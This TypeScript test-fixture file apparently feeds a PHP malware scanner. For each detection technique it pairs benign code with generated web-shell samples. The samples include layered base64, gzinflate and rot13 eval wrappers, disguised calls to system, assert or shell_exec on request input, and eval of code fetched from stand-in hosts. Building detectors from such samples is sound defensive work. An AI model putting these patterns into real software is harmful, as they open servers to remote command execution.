import { INPUTS } from './inputs.ts'
import { base64, codes, deflated, hex, PAYLOADS, php, reversed, rot13 } from './spelling.ts'
import type { Technique } from './technique.ts'

export const HIDDEN: readonly Technique[] = [
  {
    name: 'decoders around code',
    severity: 'suspicious',
    samples: PAYLOADS.flatMap(code => [
      php(`eval(base64_decode('${base64(code)}'));`),
      php(`eval(gzinflate(base64_decode('${deflated(code)}')));`),
      php(`eval(str_rot13('${rot13(code)}'));`),
      php(`$x = '${base64(code)}'; eval(base64_decode($x));`),
    ]),
    honest: [
      php(`$logo = base64_decode('${base64('a picture, which is not code at all')}'); echo strlen($logo);`),
      php(`$data = gzinflate(base64_decode($row->data)); return json_decode($data);`),
    ],
  },
  {
    name: 'decoders in layers',
    severity: 'confirmed',
    samples: PAYLOADS.flatMap(code => [
      php(`eval(base64_decode('${base64(`eval(gzinflate(base64_decode('${deflated(code)}')));`)}'));`),
      php(`eval(strrev('${reversed(`eval(base64_decode("${base64(code)}"));`)}'));`),
      php(`assert(base64_decode('${base64(`eval("${code.replaceAll('"', '\\"').replaceAll('$', '\\$')}");`)}'));`),
    ]),
    honest: [php(`$pdf = base64_decode(strrev($encoded)); header('Content-Type: application/pdf'); echo $pdf;`)],
  },
  {
    name: 'hidden names',
    severity: 'confirmed',
    samples: ['assert', 'system', 'base64_decode', 'create_function', 'shell_exec'].flatMap(name => [
      php(`$f = ${codes(name)}; $f($_POST['x']);`),
      php(`$f = strrev('${reversed(name)}'); echo $f($_GET['x']);`),
      php(`$f = str_rot13('${rot13(name)}'); $f($_REQUEST['x']);`),
      php(
        `$k = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = ${name
          .split('')
          .map(c => `$k[${'abcdefghijklmnopqrstuvwxyz_0123456789'.indexOf(c)}]`)
          .join('.')}; $f($_POST[1]);`,
      ),
    ]),
    honest: [
      php(`$nl = chr(13) . chr(10); $bom = chr(239) . chr(187) . chr(191); echo $nl . $bom;`),
      php(`$name = 'wp_' . $type; if (function_exists($name)) $name();`),
    ],
  },
  {
    name: 'pieces put together',
    severity: 'confirmed',
    samples: ['system', 'assert', 'passthru'].flatMap(name => [
      php(`$f = str_replace('#', '', '${name.split('').join('#')}'); $f($_GET['x']);`),
      php(
        `$f = implode('', array(${name
          .split('')
          .map(c => `'${c}'`)
          .join(', ')})); $f($_POST['x']);`,
      ),
      php(
        `$f = ${name
          .split('')
          .map(c => `('${String.fromCharCode(c.charCodeAt(0) ^ 1)}' ^ "\\x01")`)
          .join('.')}; $f($_REQUEST['x']);`,
      ),
    ]),
    honest: [
      php(`$key = str_replace('-', '_', 'my-option'); $list = implode(', ', array('a', 'b')); echo $key . $list;`),
      php(`$mask = 'abc' ^ 'xyz'; echo bin2hex($mask);`),
    ],
  },
  {
    name: 'objects and any variable',
    severity: 'confirmed',
    samples: [
      php(
        `class A { function __construct() { $this->c = $_POST['c']; } function run() { system($this->c); } } (new A)->run();`,
      ),
      php(`function go() { extract($_REQUEST); eval($code); } go();`),
      php(`foreach ($_POST as $k => $v) $$k = $v; assert($payload);`),
    ],
    honest: [
      php(
        `class B { function __construct() { $this->c = sanitize_key($_POST['c']); } function run() { do_action($this->c); } }`,
      ),
      php(`function view($args) { extract($args); include __DIR__ . '/view.php'; }`),
    ],
  },
  {
    name: 'codes of characters',
    severity: 'confirmed',
    samples: PAYLOADS.map(code => php(`eval("${hex(code)}");`)).concat(
      INPUTS.slice(0, 4).map(v => php(`$f = "${hex('system')}"; $f(${v});`)),
    ),
    honest: [php(`$bom = "\\xEF\\xBB\\xBF"; $dash = "\\xe2\\x80\\x94"; echo str_replace($bom, '', $text);`)],
  },
  {
    name: 'code from elsewhere',
    severity: 'confirmed',
    samples: ['http://203.0.113.7/a.txt', 'https://paste.example/raw/1'].flatMap(url => [
      php(`eval(file_get_contents('${url}'));`),
      php(`eval('?>' . file_get_contents('${url}'));`),
      php(`$c = curl_init('${url}'); eval(curl_exec($c));`),
      php(`@eval(base64_decode(file_get_contents('${url}')));`),
    ]),
    honest: [
      php(`$news = file_get_contents('https://example.com/news.json'); echo esc_html($news);`),
      php(`$response = wp_remote_get('https://example.com'); $body = wp_remote_retrieve_body($response);`),
    ],
  },
  {
    name: 'jumps',
    severity: 'suspicious',
    samples: [30, 60].map(count =>
      php(Array.from({ length: count }, (_, at) => `x${at}a: $v${at} = ${at}; goto x${(at * 7) % count}a;`).join('\n')),
    ),
    honest: [php(`again: $tries++; if ($tries < 3) goto again;`)],
  },
]
